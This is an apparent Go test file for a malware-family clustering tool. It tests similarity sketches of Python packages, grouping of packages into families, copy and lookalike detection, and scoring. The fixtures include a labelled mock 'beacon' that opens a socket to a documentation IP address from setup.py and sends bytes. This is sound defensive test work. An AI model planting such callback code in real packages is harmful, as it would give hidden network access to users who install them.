package families_test

import (
	"bytes"
	"encoding/json"
	"errors"
	"flag"
	"math/rand/v2"
	"os"
	"strings"
	"testing"
	"testing/fstest"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/malguard/malguard/datasets"
	"github.com/malguard/malguard/datasets/families"
)

var update = flag.Bool("update", false, "rewrite the golden files")

// pkg is a package of files given as name, content, name, content …
func pkg(files ...string) *datasets.Package {
	fsys := fstest.MapFS{}
	for i := 0; i < len(files); i += 2 {
		fsys[files[i]] = &fstest.MapFile{Data: []byte(files[i+1])}
	}
	return &datasets.Package{FS: fsys}
}

func sketch(t testing.TB, p *datasets.Package) families.Sketch {
	t.Helper()
	s, err := families.Of(t.Context(), p)
	require.NoError(t, err)
	return s
}

const loop = "import os\nfor name in os.listdir('.'):\n    if name.endswith('.txt'):\n        print(name, os.stat(name).st_size)\n"

// What two packages have in common.
func TestSketch(t *testing.T) {
	base := []string{"a-1/a/__init__.py", loop, "a-1/setup.py", "from setuptools import setup\nsetup(name='a', version='1')\n"}
	tests := []struct {
		name        string
		files       []string
		code, shape bool
	}{
		{"itself", base, true, true},
		{"names of files", []string{"x.py", base[3], "y/z.py", loop}, true, true},
		{"a file twice", append([]string{"build/lib/a/__init__.py", loop}, base...), true, true},
		{"layout and comments", []string{"a.py", base[3], "b.py", "# new\n" + strings.ReplaceAll(loop, "    ", "  ") + "\n# end\n"}, true, true},
		{"quotes", []string{"a.py", base[3], "b.py", strings.ReplaceAll(loop, "'", `"`)}, true, true},
		{"files without code", append([]string{"a-1/a/doc.py", "'''Text.'''\n", "a-1/b/__init__.py", "# none\n"}, base...), true, true},
		{"tests", append([]string{"a-1/tests/test_a.py", "assert 1 + 1 == 2, 'no'\n"}, base...), true, true},
		{"other files", append([]string{"a-1/README", "text", "a-1/a/data.json", "{}"}, base...), true, true},
		{"names", []string{"a.py", base[3], "b.py", strings.ReplaceAll(loop, "name", "entry")}, false, true},
		{"strings", []string{"a.py", strings.ReplaceAll(base[3], "'a'", "'b'"), "b.py", loop}, false, true},
		{"kinds of constants", []string{"a.py", strings.ReplaceAll(base[3], "'1'", "None"), "b.py", loop}, false, true},
		{"an argument more", []string{"a.py", strings.ReplaceAll(base[3], ", version", ", url='u', version"), "b.py", loop}, false, false},
		{"a file more", append([]string{"more.py", "x = 1\n"}, base...), false, false},
	}
	want := sketch(t, pkg(base...))
	require.NotEqual(t, families.Digest{}, want.Code)
	require.NotEqual(t, want.Code, want.Shape)
	require.Same(t, want.Whole, want.Installed)
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			got := sketch(t, pkg(test.files...))
			require.Equal(t, test.code, got.Code == want.Code)
			require.Equal(t, test.shape, got.Shape == want.Shape)
			if test.shape {
				require.Equal(t, 1.0, got.Installed.Similarity(want.Installed))
			}
		})
	}
}

// Trees that have the same nodes in the same order.
func TestShapeTellsTreesApart(t *testing.T) {
	sources := []string{
		"if a:\n    b\n    c\n", "if a:\n    b\nc\n", "if a:\n    b\nelse:\n    c\n", "if a:\n    b\nelif c:\n    pass\n",
		"f(a, b)\n", "f(a)(b)\n", "f(a)\nb\n", "f(a, k=b)\n", "f(a, **b)\n", "f(a, *b)\n", "a[b]\n", "a[b:]\n", "a[:b]\n", "a[::b]\n",
		"a + b\n", "a - b\n", "a < b\n", "a > b\n", "a and b\n", "a or b\n", "not a\n", "-a\n", "a += b\n", "a -= b\n",
		"[a, b]\n", "(a, b)\n", "{a, b}\n", "{a: b}\n", "{a: b, **c}\n", "{a: b, c: d}\n",
		"[a for b in c]\n", "{a for b in c}\n", "(a for b in c)\n", "{a: d for b in c}\n", "[a for b in c if d]\n", "[a for b in c for d in e]\n",
		"[a async for b in c]\n", "def f(a, b): pass\n", "def f(a, *b): pass\n", "def f(a, **b): pass\n", "def f(a, b=c): pass\n", "def f(a, b: c): pass\n",
		"async def f(a, b): pass\n", "def f(a): return b\n", "lambda a: b\n", "lambda a, b: c\n",
		"try:\n    a\nexcept:\n    b\n", "try:\n    a\nfinally:\n    b\n", "try:\n    a\nexcept b:\n    c\n", "try:\n    a\nexcept b as n:\n    c\n",
		"try:\n    a\nexcept* b:\n    c\n", "for a in b:\n    c\n", "for a in b:\n    c\nelse:\n    d\n", "async for a in b:\n    c\n",
		"while a:\n    b\n", "with a:\n    b\n", "with a as b:\n    c\n", "with a, b:\n    c\n", "import a\n", "import a as b\n", "import a, b\n", "from a import b\n",
		"global a\n", "nonlocal a\n", "del a\n", "del a, b\n", "raise a\n", "raise a from b\n", "raise a, b\n", "assert a\n", "assert a, b\n", "return a\n", "return\n",
		"yield a\n", "yield from a\n", "await a\n", "(a := b)\n", "a = b\n", "a = b = c\n", "a: b\n", "a: b = c\n", "a\n", "1\n", "f''\n", "f'{a}'\n", "f'{a:b}'\n", "f'{a}b'\n",
		"class A: pass\n", "class A(b): pass\n", "class A(k=b): pass\n", "@a\nclass A: pass\n", "pass\n", "break\n", "continue\n", "print a\n", "print >>a\n", "exec a\n", "exec a in b\n",
		"match a:\n    case b:\n        c\n", "match a:\n    case b if c:\n        d\n", "match a:\n    case [b]:\n        c\n", "match a:\n    case b | c:\n        d\n",
		"match a:\n    case {1: b}:\n        c\n", "type A = b\n", "type A[T] = b\n", "`a`\n", "a.b\n", "a if b else c\n",
	}
	seen := map[families.Digest]string{}
	for _, src := range sources {
		s := sketch(t, pkg("a.py", src))
		require.Empty(t, seen[s.Shape], "%q", src)
		require.NotEqual(t, families.Digest{}, s.Shape)
		require.NotNil(t, s.Whole)
		seen[s.Shape] = src
	}
}

// Names and constants that code must tell apart, each a change of one word.
func TestCodeTellsWordsApart(t *testing.T) {
	sources := []string{
		"a\n", "b\n", "1\n", "2\n", "1.0\n", "b'1'\n", "None\n", "True\n", "f('1')\n", "f(1)\n", "f(b'1')\n", "f(x)\n", "x.a\n", "x.b\n", "f(a=x)\n", "f(b=x)\n",
		"def a(): pass\n", "def b(): pass\n", "def a(x): pass\n", "def a(y): pass\n", "class a: pass\n", "class b: pass\n", "import a\n", "import b\n", "import a.b\n",
		"from a import x\n", "from b import x\n", "from .a import x\n", "from a import x as y\n", "global a\n", "global b\n", "f'{a!r}'\n", "f'{a!s}'\n", "f'{a=}'\n", "t'{a}'\n", "f'{a}'\n",
		"try: pass\nexcept A as a: pass\n", "try: pass\nexcept A as b: pass\n", "match x:\n    case a: pass\n", "match x:\n    case b: pass\n",
		"match x:\n    case C(a=1): pass\n", "match x:\n    case C(b=1): pass\n", "type a = x\n", "type b = x\n", "def f[A](): pass\n", "def f[B](): pass\n",
	}
	seen := map[families.Digest]string{}
	for _, src := range sources {
		s := sketch(t, pkg("a.py", src))
		if src == "b'1'\n" {
			require.Zero(t, s, "a string alone is no code")
			continue
		}
		require.Empty(t, seen[s.Code], "%q", src)
		seen[s.Code] = src
	}
}

func TestSketchOfOddPackages(t *testing.T) {
	require.Zero(t, sketch(t, pkg()))
	require.Zero(t, sketch(t, pkg("README", "text", "a.py", "", "b.py", "'''Only text.'''\n# none")))

	only := sketch(t, pkg("tests/test_a.py", loop))
	require.Equal(t, sketch(t, pkg("a.py", loop)), only, "an attacker may call everything a test")

	both := sketch(t, pkg("a.py", loop, "tests/test_a.py", "def test():\n    assert run(1, two=3) == [4]\n"))
	require.Equal(t, only.Installed, both.Installed)
	require.Less(t, both.Whole.Similarity(only.Whole), 1.0)

	// What no grammar accepts is the same only where it is written the same.
	broken := sketch(t, pkg("a.py", "x = = 1 )\n"))
	require.NotZero(t, broken)
	require.Equal(t, broken, sketch(t, pkg("b.py", "x = = 1 )\n")))
	require.NotEqual(t, broken.Shape, sketch(t, pkg("a.py", "y = = 1 )\n")).Shape)
}

type badFS struct{ fstest.MapFS }

func (badFS) ReadFile(string) ([]byte, error) { return nil, errors.New("disk on fire") }

func TestSketchFails(t *testing.T) {
	_, err := families.Of(t.Context(), &datasets.Package{FS: badFS{fstest.MapFS{"a.py": {Data: []byte(loop)}}}})
	require.EqualError(t, err, "families: disk on fire")
}

// collection has two campaigns, a library with a copy of it that does more, and what else
// there is.
func collection(t testing.TB) []families.Member {
	body := func(n int) string { // statements of n different makes
		var b strings.Builder
		for i := range n {
			b.WriteString("x" + strings.Repeat("[y]", i%7) + strings.Repeat("(z)", i/7) + " = f(a, b)\n")
		}
		return b.String()
	}
	library := body(60)
	beacon := "import socket\n" + strings.Repeat("s = socket.create_connection(('192.0.2.1', 80)); s.send(b'x' * 10)\nif s: exit(-1)\n", 3)
	list := []struct {
		id, group string
		label     datasets.Label
		year      int
		files     []string
	}{
		{"lib", "L", datasets.Benign, 2020, []string{"lib/__init__.py", library, "tests/test_lib.py", "def test():\n    assert f(1) == [2, {3: 4}]\n"}},
		{"lib-fork", "L", datasets.Benign, 2021, []string{"fork.py", library}},
		{"libb", "M1", datasets.Malicious, 2022, []string{"lib/__init__.py", library + beacon}},
		{"b-1", "M2", datasets.Malicious, 2022, []string{"setup.py", beacon}},
		{"b-2", "M2", datasets.Malicious, 2023, []string{"setup.py", strings.ReplaceAll(beacon, "192.0.2.1", "192.0.2.2")}},
		{"a-copy", "M2", datasets.Malicious, 0, []string{"setup.py", "# hi\n" + beacon}},
		{"hello", "hello", datasets.Benign, 0, []string{"setup.py", strings.ReplaceAll(beacon, "192.0.2.1", "example.com")}},
		{"other", "other", datasets.Unknown, 2023, []string{"o.py", "with open('o') as o:\n    while o.read(1):\n        pass\n"}},
		{"empty", "empty", datasets.Malicious, 2023, []string{"README", "no code"}},
		{"void", "void", datasets.Malicious, 2023, []string{"README", "none"}},
		{"bad", "M2", datasets.Malicious, 2023, nil},
	}
	var members []families.Member
	for _, c := range list {
		m := families.Member{Sample: datasets.Sample{ID: c.id, Group: c.group, Label: c.label}, SHA256: "of " + c.id}
		if c.year > 0 {
			m.Time = time.Date(c.year, 5, 1, 0, 0, 0, 0, time.UTC)
		}
		if c.files == nil {
			m.Err, m.SHA256 = errors.New("not there"), ""
		} else {
			m.Sketch = sketch(t, pkg(c.files...))
		}
		members = append(members, m)
	}
	return members
}

func TestRelate(t *testing.T) {
	members := collection(t)
	relations := families.Relate(members, families.Options{})
	of := map[string]families.Relation{}
	for i, m := range members {
		of[m.ID] = relations[i]
	}
	together := func(ids ...string) {
		for _, id := range ids {
			require.Equal(t, of[ids[0]].Family, of[id].Family, id)
			require.Equal(t, len(ids), of[id].Size, id)
		}
	}
	together("b-1", "b-2", "a-copy", "hello")
	together("lib", "lib-fork", "libb")
	together("other")
	together("empty")
	together("void")
	require.Equal(t, families.Relation{Size: 1}, of["bad"])
	require.Regexp(t, `^f[0-9a-f]{16}$`, of["lib"].Family)

	require.Equal(t, "a-copy", of["b-1"].CopyOf, "the first by name")
	require.Empty(t, of["a-copy"].CopyOf)
	require.Empty(t, of["b-2"].CopyOf, "another address is another code")
	require.Equal(t, "lib", of["lib-fork"].CopyOf, "tests do not count")
	require.Empty(t, of["empty"].CopyOf, "nothing is nobody's copy")

	require.Equal(t, "lib", of["libb"].Nearest)
	require.InDelta(t, 0.85, of["libb"].Similarity, 0.1)
	require.Equal(t, "hello", of["b-2"].Nearest)
	require.Equal(t, 1.0, of["b-2"].Similarity)
	require.Empty(t, of["lib"].Nearest, "benign packages do not look for others")
	require.Empty(t, of["other"].Nearest)
	require.Zero(t, of["other"].Similarity)
}

func TestRelateHasThresholds(t *testing.T) {
	members := collection(t)
	strict := families.Relate(members, families.Options{Jaccard: 1, Lookalike: 1})
	require.NotEqual(t, strict[0].Family, strict[2].Family, "lib and libb")
	require.Empty(t, strict[2].Nearest)
	require.Equal(t, "hello", strict[3].Nearest)
}

// Families, copies and lookalikes do not depend on the order of the collection, nor on how
// many are read at a time.
func TestRelateHasNoOrder(t *testing.T) {
	members := collection(t)
	want := map[string]families.Relation{}
	for i, r := range families.Relate(members, families.Options{}) {
		want[members[i].ID] = r
	}
	draw := rand.New(rand.NewPCG(3, 3))
	for range 20 {
		draw.Shuffle(len(members), func(i, j int) { members[i], members[j] = members[j], members[i] })
		for i, r := range families.Relate(members, families.Options{}) {
			require.Equal(t, want[members[i].ID], r)
		}
	}
}

func TestRelateNothing(t *testing.T) {
	require.Empty(t, families.Relate(nil, families.Options{}))
	r := families.Summarise(nil, nil)
	require.Zero(t, r.Packages)
	require.Nil(t, r.Agreement)
}

func TestSummarise(t *testing.T) {
	members := collection(t)
	got, err := json.MarshalIndent(families.Summarise(members, families.Relate(members, families.Options{})), "", "  ")
	require.NoError(t, err)
	got = append(got, '\n')
	if *update {
		require.NoError(t, os.WriteFile("testdata/report.json", got, 0o644))
	}
	want, err := os.ReadFile("testdata/report.json")
	require.NoError(t, err)
	require.Equal(t, string(want), string(got))
}

// Oracle values by scikit-learn, see testdata/ORIGIN; tolerance: rounding.
func TestAdjustedRand(t *testing.T) {
	data, err := os.ReadFile("testdata/rand.json")
	require.NoError(t, err)
	var cases []struct {
		A, B []json.Number
		Want float64
	}
	require.NoError(t, json.NewDecoder(bytes.NewReader(data)).Decode(&cases))
	require.Len(t, cases, 13)
	text := func(list []json.Number) (out []string) {
		for _, n := range list {
			out = append(out, n.String())
		}
		return out
	}
	for i, c := range cases {
		require.InDelta(t, c.Want, families.AdjustedRand(text(c.A), text(c.B)), 1e-12, i)
		require.InDelta(t, c.Want, families.AdjustedRand(text(c.B), text(c.A)), 1e-12, i)
	}
	require.Panics(t, func() { families.AdjustedRand([]string{"a"}, nil) })
}

func TestRead(t *testing.T) {
	d := datasets.Paths([]string{"../testdata/hello-1.0", "../testdata/none"}, datasets.Limits{})
	one, err := families.Read(t.Context(), d, 1)
	require.NoError(t, err)
	require.Len(t, one, 2)
	require.NoError(t, one[0].Err)
	require.ErrorIs(t, one[1].Err, os.ErrNotExist)
	require.NotNil(t, one[0].Whole)
	require.True(t, one[0].Time.IsZero(), "a directory has no time of its making")
	many, err := families.Read(t.Context(), d, 8)
	require.NoError(t, err)
	require.Equal(t, one[0].Sketch, many[0].Sketch)
	require.Equal(t, one[0].SHA256, many[0].SHA256)
}

func FuzzOf(f *testing.F) {
	for _, src := range []string{loop, "x = = 1 )", "\x00", "# only", "def f(:\n", strings.Repeat("(", 3000), "f'{a!r:>{b}}'", "match x:\n case [a, *b]: pass"} {
		f.Add([]byte(src))
	}
	f.Fuzz(func(t *testing.T, src []byte) {
		a := sketch(t, pkg("a.py", string(src)))
		b := sketch(t, pkg("b/c.py", string(src)))
		require.Equal(t, a, b)
		require.Equal(t, a.Code == families.Digest{}, a.Whole == nil)
		if a.Whole != nil {
			require.Equal(t, 1.0, a.Whole.Similarity(b.Whole))
		}
		twice := sketch(t, pkg("a.py", string(src), "b.py", string(src)+"\n"))
		require.Equal(t, a.Whole == nil, twice.Whole == nil)
	})
}
